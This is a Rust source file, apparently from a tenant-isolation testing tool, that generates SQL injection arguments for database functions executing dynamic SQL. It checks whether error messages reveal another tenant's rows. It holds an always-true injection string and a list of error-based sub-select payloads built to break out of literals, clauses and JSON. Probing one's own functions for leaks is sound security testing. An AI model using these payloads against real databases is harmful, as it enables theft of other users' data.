//! SQL in text arguments of functions that execute text: what they fail with shows a row of B.

use bulkhead_connect::quote_literal;
use bulkhead_sql::has_word;
use serde_json::{Map, Value as Json};

use super::arguments::columns::family;
use super::{Argument, Function, Value};
use crate::isolation::attack::Field;
use crate::isolation::attack::belonging::is_of;
use crate::isolation::attack::marks::CANARY;
use crate::isolation::attack::worlds::texts::keys;
use crate::isolation::scope::Relation;

/// A text that makes a condition true, where it ends up in a statement.
pub(in crate::isolation::attack) const ALWAYS_TRUE: &str = "'x'' OR ''1''=''1'";

/// How many tables are asked for.
const TABLES: usize = 2;

/// How many lists are tried.
const LISTS: usize = 64;

/// Lists of arguments with SQL in one of them, in the places where texts end up in a statement.
pub(in crate::isolation::attack) fn lists(
    field: &Field<'_>,
    function: &Function,
    first: &[Value],
) -> Vec<Vec<Value>> {
    let body = function.body.to_lowercase();
    if !reaches(&body) {
        return Vec::new();
    }
    let mut tables: Vec<&Relation> = field
        .scope
        .relations
        .iter()
        .filter(|it| field.ground.rows.get(&it.oid).is_some_and(|rows| !rows.of_b.is_empty()))
        .filter(|it| it.partition_of.is_none())
        .collect();
    tables.sort_by_key(|relation| !has_word(&body, &relation.table));
    let mut lists = Vec::new();
    for relation in tables.into_iter().take(TABLES) {
        let beside = harmless(field, function, relation, first);
        for text in texts(field, relation) {
            for (place, argument) in function.arguments.iter().enumerate() {
                let given = match argument.data_type.as_str() {
                    "json" | "jsonb" => document(function, &text),
                    it if family(it) == "text" => Some(quote_literal(&text)),
                    _ => None,
                };
                let Some(given) = given else { continue };
                for others in &beside {
                    let mut list = others.clone();
                    list[place] = plain(given.clone());
                    if !lists.iter().any(|known: &Vec<Value>| is_like(known, &list)) {
                        lists.push(list);
                    }
                }
            }
        }
    }
    lists.truncate(LISTS);
    lists
}

fn is_like(one: &[Value], other: &[Value]) -> bool {
    one.iter().zip(other).all(|(one, other)| one.sql == other.sql)
}

fn plain(sql: String) -> Value {
    Value { sql, tenant: false, key: false, name: false, content: false }
}

/// Arguments that a statement is built with and that do no harm: what is given as it was, and texts that are names of
/// columns and of directions.
fn harmless(field: &Field<'_>, function: &Function, relation: &Relation, first: &[Value]) -> Vec<Vec<Value>> {
    let columns: Vec<&str> = relation
        .columns
        .iter()
        .filter(|column| family(&column.data_type) == "text")
        .chain(&relation.columns)
        .map(|column| column.name.as_str())
        .collect();
    let named = |argument: &Argument| {
        let name = argument.name.to_lowercase();
        let has = |words: &[&str]| words.iter().any(|word| name.contains(word));
        let is_direction = has(&["dir", "asc", "desc"]) || has(&["order"]) && !has(&["by", "col", "field"]);
        match columns.iter().find(|column| **column == name) {
            _ if is_direction => "asc".to_owned(),
            _ if has(&["table", "relation", "entity"]) => relation.table.clone(),
            _ if has(&["schema"]) => relation.schema.clone(),
            Some(column) => (*column).to_owned(),
            None => columns.first().map_or_else(String::new, |column| (*column).to_owned()),
        }
    };
    let filled: Vec<Value> = function
        .arguments
        .iter()
        .zip(first)
        .map(|(argument, value)| match family(&argument.data_type) {
            "text" => plain(quote_literal(&named(argument))),
            _ => value.clone(),
        })
        .collect();
    let own = own(field, function, first);
    let texts = function.arguments.iter().filter(|argument| family(&argument.data_type) == "text").count();
    if texts > 1 { vec![filled, own] } else { vec![own] }
}

/// What is given first, with A's tenant in the place of B's: a check must not end the call.
fn own(field: &Field<'_>, function: &Function, first: &[Value]) -> Vec<Value> {
    let [a, _] = &field.probe.tenants;
    let is_whole = first.len() == function.arguments.len();
    let of = |value: &Value| match value.tenant && is_whole {
        true => plain(quote_literal(a)),
        false => value.clone(),
    };
    first.iter().map(of).collect()
}

/// A document with the text under every key that the body takes out.
fn document(function: &Function, text: &str) -> Option<String> {
    let asked = keys(&function.body);
    let filled: Map<String, Json> =
        asked.all.iter().map(|key| (key.clone(), Json::String(text.to_owned()))).collect();
    (!filled.is_empty()).then(|| quote_literal(&Json::Object(filled).to_string()))
}

/// Whether a function executes text.
pub(in crate::isolation::attack) fn reaches(body: &str) -> bool {
    has_word(&body.to_lowercase(), "execute")
}

/// Whether an argument is one of these texts.
pub(in crate::isolation::attack) fn is_text(argument: &str) -> bool {
    argument == ALWAYS_TRUE || argument.contains("(SELECT ''") && argument.contains(CANARY)
}

/// As an expression, at the end of a clause, within a literal, and as what is read from. Without a row of B the
/// sub-select is null, which is no error.
fn texts(field: &Field<'_>, relation: &Relation) -> Vec<String> {
    let Some(of_b) = is_of(field.scope, relation, "t", &field.probe.tenants[1]) else { return Vec::new() };
    let name = &relation.name;
    let shown = format!("(SELECT '{CANARY}: ' || t::text FROM {name} AS t WHERE {of_b} LIMIT 1)::integer");
    vec![
        shown.clone(),
        format!("1 LIMIT {shown}"),
        format!("true AND 1 = {shown}"),
        format!("' || {shown} || '"),
        format!("{shown}::text"),
        format!("asc, {shown}"),
        format!("{{\"x\": \"nothing\"}}' OR 1 = {shown} OR ''='"),
        format!("nothing') OR 1 = {shown} OR ('' = '"),
        format!("(SELECT {shown} AS shown) AS asked"),
    ]
}
